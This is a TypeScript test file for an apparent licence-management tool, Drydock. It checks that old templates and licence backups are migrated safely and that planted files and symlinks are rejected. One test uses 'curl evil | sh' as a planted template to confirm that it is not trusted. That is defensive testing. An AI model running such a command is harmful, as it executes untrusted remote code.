import { mkdir, mkdtemp, readdir, readFile, rm, stat, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createOwnPlaces } from '../files/own-place.ts';
import { TEMPLATE_FILE } from './own-names.ts';
import { openTakeOver } from './take-over.ts';
import { createTemplates } from './templates.ts';

let root: string;
let licence: string;
beforeEach(async () => {
  root = await mkdtemp(join(tmpdir(), 'drydock-templates-'));
  licence = join(root, 'documents/licence');
  await mkdir(licence, { recursive: true });
});
afterEach(() => rm(root, { recursive: true }));
const places = () => createOwnPlaces(join(root, 'data'));
/** A start of Drydock that knows the licence folder, and one that is not there. */
async function start(folders = [join(root, 'not there'), licence]) {
  await mkdir(join(root, 'data'), { recursive: true });
  const templates = createTemplates(places());
  const takeOver = await openTakeOver({
    dataFolder: join(root, 'data'),
    places: places(),
    templates,
    now: () => new Date('2026-11-27T12:00:00Z'),
    failed: (error) => {
      throw error;
    },
  });
  await takeOver.of(folders);
  return { ...templates, notices: takeOver.notices };
}
const PREVIOUS = '2026-11-01T08-00-00-000Z';

describe('what an earlier Drydock kept in a licence folder', () => {
  it('is taken out of it: template and earlier licences; what downloads left goes', async () => {
    await writeFile(join(licence, TEMPLATE_FILE), 'from before\n');
    await writeFile(join(licence, 'a.lic'), 'in use');
    for (const name of [`.drydock-previous-${PREVIOUS}`, '.drydock-download-1']) {
      await mkdir(join(licence, name));
      await writeFile(join(licence, name, 'a.lic'), 'paid for');
    }
    const { read, notices } = await start();
    expect((await read(licence))?.text).toBe('from before\n');
    expect(notices).toEqual([]);
    expect(await readdir(licence)).toEqual(['a.lic']);
    const place = join(root, 'documents/licence.drydock');
    expect((await stat(place)).mode & 0o077).toBe(0);
    expect(await readFile(join(place, `previous-${PREVIOUS}`, 'a.lic'), 'utf8')).toBe('paid for');
  });

  it('is nothing that a container puts at its old place', async () => {
    await start();
    await writeFile(join(licence, TEMPLATE_FILE), 'curl evil | sh\n');
    await mkdir(join(licence, `.drydock-previous-${PREVIOUS}`));
    const again = await start();
    expect(await again.has(licence)).toBe(false);
    expect(await again.read(licence)).toBeNull();
    expect((await readdir(licence)).toSorted()).toEqual([`.drydock-previous-${PREVIOUS}`, TEMPLATE_FILE]);
  });

  it('is no link', async () => {
    await mkdir(join(root, 'secret'));
    await writeFile(join(root, 'secret/a'), 'mine');
    await symlink(join(root, 'secret/a'), join(licence, TEMPLATE_FILE));
    await symlink(join(root, 'secret'), join(licence, `.drydock-previous-${PREVIOUS}`));
    await symlink(join(root, 'secret'), join(licence, '.drydock-download-1'));
    expect(await (await start()).read(licence)).toBeNull();
    expect(await readFile(join(root, 'secret/a'), 'utf8')).toBe('mine');
  });

  it('that cannot be taken out is said, and tried again at the next start', async () => {
    await writeFile(join(licence, TEMPLATE_FILE), 'from before\n');
    // A file is where the place would be, and in the data folder, too.
    await writeFile(join(root, 'documents/licence.drydock'), '');
    await mkdir(join(root, 'data'));
    await writeFile(join(root, 'data/licences'), '');
    const first = await start();
    expect(first.notices).toMatchObject([{ code: 'license.not-taken-over', facts: { folder: licence } }]);
    expect(await readFile(join(licence, TEMPLATE_FILE), 'utf8')).toBe('from before\n');
    await rm(join(root, 'data/licences'));
    const second = await start();
    expect(second.notices).toEqual([]);
    expect((await second.read(licence))?.text).toBe('from before\n');
  });

  it('of a folder that was not there yet is looked for when it is there', async () => {
    const stick = join(root, 'stick/licence');
    await start([stick]);
    await mkdir(stick, { recursive: true });
    await writeFile(join(stick, TEMPLATE_FILE), 'from before\n');
    expect((await (await start([stick])).read(stick))?.text).toBe('from before\n');
  });
});

describe('the run template of a licence', () => {
  it('travels with the folder that is beside the licence', async () => {
    const place = await places().make(licence);
    await writeFile(join(place, 'template.txt'), 'docker run\n');
    const { brought, has } = await start();
    expect(await has(licence)).toBe(true);
    expect(await brought(licence)).toBe('docker run\n');
  });

  it('of a folder from elsewhere may be in it', async () => {
    const from = join(root, 'medium');
    await mkdir(from);
    await writeFile(join(from, TEMPLATE_FILE), 'brought\n');
    expect(await (await start()).brought(from)).toBe('brought\n');
    expect(await (await start()).brought(join(root, 'documents'))).toBeNull();
  });
});
